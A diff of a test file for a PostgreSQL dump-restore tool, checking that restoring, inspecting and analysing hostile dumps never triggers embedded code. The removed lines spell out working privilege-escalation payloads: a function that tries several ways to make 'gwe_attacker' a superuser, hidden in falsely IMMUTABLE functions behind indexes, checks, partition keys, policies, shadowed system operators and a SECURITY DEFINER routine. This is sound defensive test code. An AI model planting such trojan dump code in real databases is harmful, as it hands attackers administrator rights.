@@ -1,76 +1,24 @@
-// Dumps whose code waits for an administrator: it does nothing while the working login restores it, and tries to make
-// somebody a superuser as soon as it is run with more rights. Groundwork's own questions, counts and ANALYZE must not run it,
-// neither while restoring nor later, when the database is checked or compared with a snapshot.
+// Code of a dump that waits for an administrator (waiting-code.ts). Groundwork's own questions, counts and ANALYZE must not
+// run it, neither while restoring nor later, when the database is checked or compared with a snapshot. Here all of it at once;
+// each alone is a soak.
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import type { ConnectionParams } from '../../../electron/core/postgres/connection.ts'
-import { withClient } from '../../../electron/core/postgres/connect.ts'
-import { readDefinitions } from '../../../electron/core/snapshot/definitions.ts'
-import { diffRows } from '../../../electron/core/snapshot/diff-rows.ts'
-import { takeInventory } from '../../../electron/core/verify/inventory.ts'
-import { countRows } from '../../../electron/core/verify/rows.ts'
 import { startCluster, type Cluster } from '../../helpers/cluster.ts'
 import { testServers } from '../../helpers/servers.ts'
-import { ask, clean, debris, restore } from './harness.ts'
-
-/** Tries every way to more rights it can think of, and is silent about all that fails. */
-const act = `CREATE FUNCTION public.act() RETURNS int VOLATILE LANGUAGE plpgsql AS $act$
-BEGIN
-  BEGIN EXECUTE 'ALTER ROLE gwe_attacker SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
-  BEGIN EXECUTE 'RESET ROLE'; EXECUTE 'ALTER ROLE gwe_attacker SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
-  BEGIN EXECUTE 'RESET SESSION AUTHORIZATION'; EXECUTE 'ALTER ROLE gwe_attacker SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
-  BEGIN EXECUTE 'SET ROLE postgres'; EXECUTE 'ALTER ROLE gwe_attacker SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
-  RETURN 1;
-END $act$;\n`
-
-/** What calls itself IMMUTABLE may not change anything, but may ask somebody who may. */
-const attack = (signature: string, returns: string, value: string, more = 'IMMUTABLE'): string =>
-  `CREATE FUNCTION public.${signature} RETURNS ${returns} ${more} LANGUAGE plpgsql AS $attack$ BEGIN PERFORM public.act(); RETURN ${value}; END $attack$;\n`
-const evil = attack('evil(int)', 'int', '$1')
-const rows = (table: string, columns = 'i'): string => `COPY public.${table} (${columns}) FROM stdin;\n1\n2\n3\n\\.\n`
-const operator = (name: string, left: string, right: string, returns: string, value: string): string =>
-  `${attack(`op_${Buffer.from(`${name}${left}${right}`).toString('hex')}(${left}, ${right})`, returns, value)}CREATE OPERATOR public.${name} (LEFTARG = ${left}, RIGHTARG = ${right}, FUNCTION = public.op_${Buffer.from(`${name}${left}${right}`).toString('hex')});\n`
-
-const dumps: Readonly<Record<string, string>> = {
-  'an index on a function': `${evil}CREATE TABLE public.t (i int);\n${rows('t')}CREATE INDEX ti ON public.t (public.evil(i));\n`,
-  'an index on a constant, worked out by whoever plans a query': `${evil}CREATE TABLE public.t (i int);\n${rows('t')}CREATE INDEX ti ON public.t (i) WHERE public.evil(1) > 0;\nCREATE INDEX tj ON public.t ((i + public.evil(2)));\n`,
-  'a check, a default, a generated column': `${evil}CREATE TABLE public.t (i int DEFAULT public.evil(1), CHECK (public.evil(1) > 0), CHECK (i + public.evil(2) > 0), g int GENERATED ALWAYS AS (public.evil(3)) STORED);\n${rows('t')}CREATE TABLE public.c () INHERITS (public.t);\n`,
-  'statistics on an expression': `${evil}CREATE TABLE public.t (i int, j int);\n${rows('t')}CREATE STATISTICS public.s ON (public.evil(i)), (i + public.evil(1)) FROM public.t;\n`,
-  'a partition key': `${evil}CREATE TABLE public.t (i int) PARTITION BY RANGE ((i + public.evil(0)));\nCREATE TABLE public.p PARTITION OF public.t FOR VALUES FROM (0) TO (100);\nCREATE TABLE public.d PARTITION OF public.t DEFAULT;\n${rows('p')}`,
-  'a range type': `${attack('apart(float8, float8)', 'float8', '$1 - $2')}CREATE TYPE public.r AS RANGE (subtype = float8, subtype_diff = public.apart);\nCREATE TABLE public.t (i public.r);\nCOPY public.t (i) FROM stdin;\n[1,2)\n[2,3)\n[4,9)\n\\.\n`,
-  'a domain': `${attack('good(int)', 'boolean', 'true')}CREATE DOMAIN public.d AS int CHECK (public.good(VALUE));\nCREATE TABLE public.t (i public.d);\n${rows('t')}CREATE INDEX ti ON public.t ((i::int + 1)) WHERE (1::public.d) > 0;\n`,
-  'policies, rules, views, triggers': `${evil}${attack('fires()', 'trigger', 'NEW', '')}CREATE TABLE public.t (i int);\n${rows('t')}ALTER TABLE public.t ENABLE ROW LEVEL SECURITY;\nALTER TABLE public.t FORCE ROW LEVEL SECURITY;\nCREATE POLICY p ON public.t USING (public.evil(i) > 0);\nCREATE VIEW public.v AS SELECT public.evil(i) AS e FROM public.t;\nCREATE MATERIALIZED VIEW public.m AS SELECT public.evil(1) AS e;\nCREATE INDEX mi ON public.m (public.evil(e));\nCREATE TRIGGER g BEFORE INSERT OR UPDATE ON public.t FOR EACH ROW EXECUTE FUNCTION public.fires();\n`,
-  'operators that stand in front of the system’s': [
-    operator('=', 'oid', 'regclass', 'boolean', 'false'),
-    operator('=', 'name', 'text', 'boolean', 'false'),
-    operator('||', 'name', 'text', 'text', '$1::text'),
-    operator('||', 'regtype', 'text', 'text', '$2'),
-    operator('<>', 'name', 'text', 'boolean', 'true'),
-    operator('~', 'name', 'text', 'boolean', 'true'),
-    operator('=', '"char"', 'text', 'boolean', 'false'),
-    operator('=', 'int2', 'int8', 'boolean', 'false'),
-    attack('format(text, name)', 'text', '$2::text'),
-    attack('unnest(text[])', 'SETOF text', 'NULL', '').replace('RETURN NULL;', 'RETURN NEXT $1[1]; RETURN;'),
-    attack('to_regclass(unknown_text text)', 'regclass', 'NULL'),
-    attack('count(text)', 'bigint', '0'),
-    'CREATE TABLE public.t (i int PRIMARY KEY);\n',
-    rows('t'),
-  ].join(''),
-  'casts of its own types to text': `${attack('say(public.mood)', 'text', "'x'").replace('CREATE', `CREATE TYPE public.mood AS ENUM ('a', 'b', '1', '2', '3');\nCREATE`)}CREATE CAST (public.mood AS text) WITH FUNCTION public.say(public.mood) AS IMPLICIT;\nCREATE TABLE public.t (i public.mood PRIMARY KEY);\n${attack('row(public.t)', 'text', "'x'")}CREATE CAST (public.t AS text) WITH FUNCTION public.row(public.t);\n${rows('t')}`,
-  'a view in the place of a table': `${evil}CREATE TABLE public.t (i int);\n${rows('t')}ALTER TABLE public.t RENAME TO u;\nCREATE VIEW public.t AS SELECT i FROM public.u WHERE public.evil(i) > 0;\n`,
-  'a routine with the rights of its owner': `CREATE FUNCTION public.f(text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN EXECUTE $1; END $$;\nCREATE TABLE public.t (i int);\n${rows('t')}`,
-}
+import { ask, clean, restore } from './harness.ts'
+import { lookAtEverything } from './look-at-everything.ts'
+import { act, allWaitingCode, evil } from './waiting-code.ts'
 
 describe.each(testServers())('code that waits for an administrator, on $name', ({ major }) => {
   const folder = mkdtempSync(join(tmpdir(), 'gw-escalation-'))
+  const file = join(folder, 'all.sql')
   let cluster: Cluster
-  let params: ConnectionParams
   beforeAll(async () => {
     cluster = await startCluster(major)
-    params = cluster.params
-    await ask(params, 'postgres', 'create role gwe_attacker login')
+    await ask(cluster.params, 'postgres', 'create role gwe_attacker login')
+    writeFileSync(file, allWaitingCode())
   })
   afterAll(async () => {
     await cluster.stop()
@@ -78,58 +26,38 @@ describe.each(testServers())('code that waits for an administrator, on $name', (
   })
   const isSuper = async (): Promise<boolean> =>
     (
-      await ask<{ s: boolean }>(params, 'postgres', `select rolsuper as s from pg_roles where rolname = 'gwe_attacker'`)
+      await ask<{ s: boolean }>(
+        cluster.params,
+        'postgres',
+        `select rolsuper as s from pg_roles where rolname = 'gwe_attacker'`,
+      )
     )[0]!.s
-  const unharmed = async (when: string): Promise<void> => {
-    const harmed = await isSuper()
-    if (harmed) await ask(params, 'postgres', 'alter role gwe_attacker nosuperuser')
-    expect(harmed, when).toBe(false)
-  }
 
-  it('would be harmed by the attack, were it run', async () => {
-    await ask(params, 'postgres', 'create database gwe_direct')
-    await ask(params, 'gwe_direct', `${act}${evil}select public.evil(1)`)
+  it('would do harm, were it run', async () => {
+    await ask(cluster.params, 'postgres', 'create database gwe_direct')
+    await ask(cluster.params, 'gwe_direct', `${act}${evil}select public.evil(1)`)
     expect(await isSuper()).toBe(true)
-    await ask(params, 'postgres', 'alter role gwe_attacker nosuperuser')
-    await clean(params, 'gwe_direct')
+    await ask(cluster.params, 'postgres', 'alter role gwe_attacker nosuperuser')
   })
 
-  it.each(Object.entries(dumps))('%s', async (what, text) => {
+  it('is not run by restoring, counting, comparing, nor by the server itself', async () => {
     const name = 'gwe_new'
-    const file = join(folder, `${what.replaceAll(/\W+/g, '-')}.sql`)
-    writeFileSync(file, act + text)
-    await clean(params, name)
-    const { result } = await restore(params, file, name)
-    await unharmed('while restoring')
+    const { result } = await restore(cluster.params, file, name)
+    expect(await isSuper(), 'while restoring').toBe(false)
     expect(result.error).toBeUndefined()
-    expect(result.receipt.rows.find(({ table }) => /public\.[tpu]$/.test(table) && table !== 'public.p')?.found).toBe(3)
-    expect(await debris(params)).toEqual([])
+    expect(result.role).toBe('gwe_new_owner')
+    expect(result.findings.map(({ code }) => code)).toContain('owner-made')
+    await lookAtEverything(cluster.params, name, async (when) => expect(await isSuper(), when).toBe(false))
+    await ask(cluster.params, name, 'analyze')
+    expect(await isSuper(), 'by ANALYZE, as autovacuum does it').toBe(false)
+    await clean(cluster.params, 'gwe_new')
+  })
 
-    const inside = { ...params, database: name }
-    const tables = await withClient(inside, async (client) => {
-      const inventory = await takeInventory(client)
-      await unharmed('while taking the inventory')
-      const all = [...(inventory.objects.tables ?? []), ...(inventory.objects.partitions ?? [])]
-      await countRows(client, [
-        ...all,
-        ...(inventory.objects.partitioned_tables ?? []),
-        ...(inventory.objects.views ?? []),
-        ...(inventory.objects.materialized_views ?? []),
-      ])
-      await unharmed('while counting')
-      await readDefinitions(client)
-      await unharmed('while reading definitions')
-      return all
-    })
-    await withClient(inside, (was) =>
-      withClient(inside, (is) => diffRows(was, is, { was: tables, is: tables }, () => undefined)),
-    )
-    await unharmed('while comparing rows')
-    // What the server does by itself, as the owner of a table.
-    if (what !== 'a view in the place of a table') {
-      await ask(params, name, 'analyze')
-      await unharmed('by ANALYZE, as autovacuum does it')
-    }
-    await clean(params, 'gwe_new')
+  it('says so where the superuser was named as the owner', async () => {
+    const { result } = await restore(cluster.params, file, 'gwe_named', { owner: 'postgres' })
+    expect(result.role).toBe('postgres')
+    expect(result.findings.find(({ code }) => code === 'superuser-runs-code')?.message).toContain('an index of s0.t')
+    expect(await isSuper(), 'while restoring').toBe(false)
+    await clean(cluster.params, 'gwe_named')
   })
 })
